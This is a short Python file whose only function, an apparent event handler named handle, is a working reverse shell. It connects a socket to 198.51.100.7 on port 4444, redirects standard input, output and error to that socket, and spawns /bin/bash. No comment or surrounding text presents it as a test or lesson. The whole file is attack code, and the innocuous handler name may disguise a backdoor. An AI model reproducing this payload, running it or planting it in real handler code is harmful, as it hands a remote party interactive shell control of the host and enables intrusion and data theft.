import os
import pty
import socket


def handle(event):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("198.51.100.7", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    pty.spawn("/bin/bash")
